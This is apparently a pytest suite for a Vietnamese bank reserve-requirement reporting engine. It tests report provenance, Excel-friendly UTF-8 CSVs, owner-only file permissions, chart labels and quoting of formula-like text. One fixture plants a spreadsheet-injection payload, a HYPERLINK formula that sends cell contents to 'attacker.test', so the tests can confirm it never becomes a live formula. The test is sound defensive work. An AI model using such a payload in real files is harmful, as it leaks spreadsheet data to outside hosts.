"""Every report carries what it was written under (pack, approval, run, audit head); CSV
files open in Excel with Vietnamese intact; no text cell becomes a live formula, while amounts
stay numbers; report files are owner-only; chart tick labels never repeat."""

import csv
import datetime as dt
import io
import os
import stat
import zipfile
from decimal import Decimal as D
from types import SimpleNamespace

import matplotlib
import nightly_data as nd
import pytest
from clirun import VN_PACK
from openpyxl import load_workbook
from PIL import Image

from rrr_engine import __version__
from rrr_engine.engine import Engine
from rrr_engine.governance.submissions import RestatementRow, restatement_csv
from rrr_engine.jobs.nightly import NightlyJob
from rrr_engine.reports.chart import chart_figure, tick_labels
from rrr_engine.reports.model import ChartSeries, Col, ReportTable
from rrr_engine.reports.period import csv_text
from rrr_engine.store.audit import verify_chain
from rrr_engine.store.database import Storage

START, END = dt.date(2025, 8, 1), dt.date(2025, 10, 2)
FORMULA = '=HYPERLINK("http://attacker.test/?x="&A1,"click")'
VIETNAMESE = "Ngân hàng Nông nghiệp và Phát triển Nông thôn Việt Nam"
PROVENANCE = ["pack_id", "pack_version", "pack_sha256", "pack_approval", "run_id", "audit_head",
              "engine_version"]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("provenance")
    feed = nd.write_feed(tmp / "feed", START, END)
    (tmp / "feed" / "institutions.yaml").write_text(
        f"- {{id: BANK1, name: '{FORMULA}', class: other_ci}}\n"
        f"- {{id: BANK2, name: \"{VIETNAMESE}\", class: agribank}}\n"
        "- {id: BANK3, name: \"-2+3\", class: people_credit_fund}\n", encoding="utf-8")
    engine = Engine(VN_PACK, entry_points=False)
    url = f"sqlite:///{tmp / 'rrr.sqlite'}"
    with Storage.open(url) as store:
        NightlyJob(engine, store, feed, reports_dir=tmp / "out").run(nd.dates(START, END))
        run = store.runs()[-1]
        with store.transaction() as conn:
            _, head, broken = verify_chain(conn)
    assert broken is None
    return SimpleNamespace(dir=tmp / "out" / "2025-09", engine=engine, run=run,
                           head=f"{head[0]}:{head[1]}")


def read_csv(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_files_are_utf8_with_a_byte_order_mark_and_keep_vietnamese(written):
    for path in written.dir.glob("*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), path.name  # what makes Excel read UTF-8
    text = (written.dir / "rrr_2025-09_requirement.csv").read_bytes()[3:].decode("utf-8")
    assert VIETNAMESE in text


def test_every_csv_row_carries_the_provenance(written):
    want = {"pack_id": "vn-sbv", "pack_version": written.engine.pack.header.label,
            "pack_sha256": written.engine.pack.sha256, "pack_approval": "unreviewed",
            "run_id": written.run["run_id"], "audit_head": written.head,
            "engine_version": __version__}
    for path in sorted(written.dir.glob("*.csv")):
        rows = read_csv(path)
        assert list(rows[0])[-len(PROVENANCE):] == PROVENANCE, path.name
        assert all({k: r[k] for k in PROVENANCE} == want for r in rows), path.name
    assert written.run["ruleset_sha256"] == written.engine.pack.sha256


def test_the_workbook_has_a_provenance_sheet_footers_and_properties(written):
    path = written.dir / "rrr_2025-09.xlsx"
    wb = load_workbook(path)
    rows = {r[0].value: r[1].value for r in wb["Provenance"].iter_rows(min_row=2)}
    assert rows == {"pack_id": "vn-sbv", "pack_version": written.engine.pack.header.label,
                    "pack_sha256": written.engine.pack.sha256, "pack_approval": "unreviewed",
                    "run_id": written.run["run_id"], "audit_head": written.head,
                    "engine_version": __version__}
    for ws in wb.worksheets[:-1]:
        footer = ws.oddFooter.left.text
        assert written.run["run_id"] in footer and written.engine.pack.sha256[:12] in footer
        assert "(unreviewed)" in footer and written.head[:written.head.index(":") + 13] in footer
    props = {p.name: p.value for p in wb.custom_doc_props.props}
    assert props["rrr_run_id"] == written.run["run_id"] and props["rrr_audit_head"] == written.head


def test_the_chart_carries_its_provenance_as_png_text(written):
    with Image.open(written.dir / "rrr_2025-09_BANK1_holdings.png") as img:
        text = dict(img.text)
    assert text["run_id"] == written.run["run_id"] and text["audit_head"] == written.head
    assert text["pack_sha256"] == written.engine.pack.sha256
    assert text["pack_approval"] == "unreviewed" and text["pack_id"] == "vn-sbv"


def test_a_chart_footer_prints_the_provenance():
    days = [dt.date(2025, 9, d) for d in range(1, 31)]
    series = ChartSeries("B", "VND", days, [D(5)] * 30, D(4), D(5), D(1), D(0))
    fig = chart_figure([series], "2025-09", footer="pack vn-sbv 2025.10\nrun R - audit head 7:ab")
    assert [t.get_text() for t in fig.texts] == ["pack vn-sbv 2025.10\nrun R - audit head 7:ab"]


def test_text_a_spreadsheet_would_run_is_quoted_in_csv(written):
    rows = {r["institution_id"]: r for r in read_csv(written.dir / "rrr_2025-09_requirement.csv")}
    assert rows["BANK1"]["institution_name"] == "'" + FORMULA
    assert rows["BANK3"]["institution_name"] == "'-2+3"
    assert rows["BANK2"]["institution_name"] == VIETNAMESE
    # amounts and ratios are numbers, not text: exact decimals, never quoted
    assert all(D(r["required"]) >= 0 and not r["required"].startswith("'")
               for r in rows.values() if r["required"])


def test_the_workbook_stores_that_text_as_strings_never_formulas(written):
    path = written.dir / "rrr_2025-09.xlsx"
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = load_workbook(path)
    names = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value in (FORMULA, "-2+3")]
    assert names and all(c.data_type == "s" for c in names)


def test_negative_amounts_stay_numbers_and_negative_looking_text_is_quoted():
    table = ReportTable("T", [Col("name", "Name"), Col("amount", "Amount", "money", "ccy"),
                              Col("ccy", "Currency"), Col("ratio", "Ratio", "ratio"),
                              Col("version", "Version", "int")],
                        [{"name": "-5", "amount": D("-5.00"), "ccy": "VND", "ratio": "0.035",
                          "version": 2},
                         {"name": "@x", "amount": D("-1234567.89"), "ccy": "+1", "ratio": "0",
                          "version": 10}])
    rows = list(csv.reader(io.StringIO(csv_text(table))))
    assert rows[1:] == [["'-5", "-5.00", "VND", "0.035", "2"],
                        ["'@x", "-1234567.89", "'+1", "0", "10"]]


def test_restatement_csv_keeps_differences_as_numbers():
    row = RestatementRow("=BANK", "2025-10", "requirement", "vnd_short", "VND", "required",
                         D("100"), D("95"), D("-5"), 1, 2, "a" * 64, "2025-10", "b" * 64,
                         "2025-10", "-old-rule", "new")
    rows = list(csv.DictReader(io.StringIO(restatement_csv([row]))))
    assert rows[0]["difference"] == "-5" and rows[0]["old"] == "100"
    assert rows[0]["institution_id"] == "'=BANK" and rows[0]["old_rule"] == "'-old-rule"
    assert rows[0]["new_version"] == "2"


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_report_files_and_their_folders_are_owner_only(written):
    files = list(written.dir.iterdir())
    assert files and all(mode(p) == 0o600 for p in files)
    assert mode(written.dir) == mode(written.dir.parent) == 0o700


def labels(days, tz="UTC"):
    series = ChartSeries("B", "VND", days, [D(100)] * len(days), D(90), D(100), D(10), D(0))
    with matplotlib.rc_context({"timezone": tz}):
        fig = chart_figure([series], "P")
        fig.canvas.draw()
        return [t.get_text() for t in fig.axes[0].get_xticklabels()]


@pytest.mark.parametrize("first, count, want_first, want_last", [
    (dt.date(2025, 2, 1), 28, "01", "28"),  # a short month: one label per day
    (dt.date(2024, 2, 1), 29, "01", "29"),
    (dt.date(2025, 3, 1), 31, "01", "31"),  # labels from a time zone repeated a day here
    (dt.date(2025, 1, 20), 28, "20 Jan", "16 Feb"),  # across a month end
    (dt.date(2025, 12, 10), 45, "10 Dec 2025", "21 Jan 2026"),  # weekly ticks across a year
    (dt.date(2024, 1, 1), 400, "01 Jan 2024", "03 Feb 2025"),  # the same day-month twice
    (dt.date(2025, 9, 30), 1, "30", "30"),
])
# the labels come from the dates, not from matplotlib's time zone setting
@pytest.mark.parametrize("tz", ["UTC", "America/Los_Angeles", "Etc/GMT+12", "Pacific/Kiritimati"])
def test_chart_tick_labels_never_repeat(first, count, want_first, want_last, tz):
    days = [first + dt.timedelta(days=n) for n in range(count)]
    shown = labels(days, tz)
    assert len(set(shown)) == len(shown)
    assert (shown[0], shown[-1]) == (want_first, want_last)


def test_tick_labels_name_the_year_when_a_day_and_month_recur():
    assert tick_labels([dt.date(2025, 3, 1), dt.date(2026, 3, 1)]) == ["01 Mar 2025", "01 Mar 2026"]
